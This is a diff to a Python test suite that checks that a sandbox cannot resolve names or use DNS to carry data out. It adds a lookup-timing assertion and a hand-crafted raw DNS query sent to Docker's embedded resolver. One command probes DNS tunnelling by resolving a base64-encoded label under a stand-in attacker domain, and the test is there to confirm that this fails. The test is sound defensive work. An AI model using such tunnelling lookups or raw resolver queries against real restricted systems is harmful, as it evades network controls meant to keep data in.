@@ -10,6 +10,7 @@ route table was checked to hold no route off the sandbox's own proxy subnet.
 from __future__ import annotations
 
 import json
+import time
 from collections.abc import AsyncIterator, Iterator
 from typing import Any
 
@@ -228,10 +229,22 @@ async def test_raw_and_packet_sockets_are_denied(box: Sandbox) -> None:
 
 
 async def test_no_name_resolves_in_the_sandbox_so_dns_cannot_carry_data(box: Sandbox) -> None:
+    started = time.monotonic()
     out = await box.bash("getent hosts pypi.org; echo rc=$?; getent hosts aGVsbG8.tunnel.attacker.test; echo rc=$?; "
                          "python3 -c 'import socket; socket.getaddrinfo(\"pypi.org\", 443)' 2>&1 | tail -1")
+    assert time.monotonic() - started < 12, "name lookups should fail fast (resolver timeout:1 attempts:1)"
     stdout = out.structured_content["stdout"]
     assert stdout.count("rc=2") == 2 and "gaierror" in stdout, stdout
+    # Docker's embedded resolver (127.0.0.11, on the sandbox's own loopback) answers a raw query for
+    # an allowed name with no address: it forwards only to the sandbox's loopback (dns 127.0.0.1).
+    raw = await box.sh(
+        "python3 -c \"\nimport socket, struct\nq = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + "
+        "b''.join(bytes([len(p)]) + p for p in b'pypi.org'.split(b'.')) + b'\\\\0' + struct.pack('>HH', 1, 1)\n"
+        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\ns.sendto(q, ('127.0.0.11', 53))\n"
+        "try:\n    r = s.recv(512); print('rcode', r[3] & 15, 'answers', struct.unpack('>H', r[6:8])[0])\n"
+        "except socket.timeout:\n    print('rcode none answers 0')\n\""
+    )
+    assert raw.split()[-1] == "0" and raw.split()[1] != "0", raw
 
 
 async def test_no_proxy_and_unset_proxy_variables_give_no_way_around_the_proxy(box: Sandbox, stand_in: StandIn) -> None:
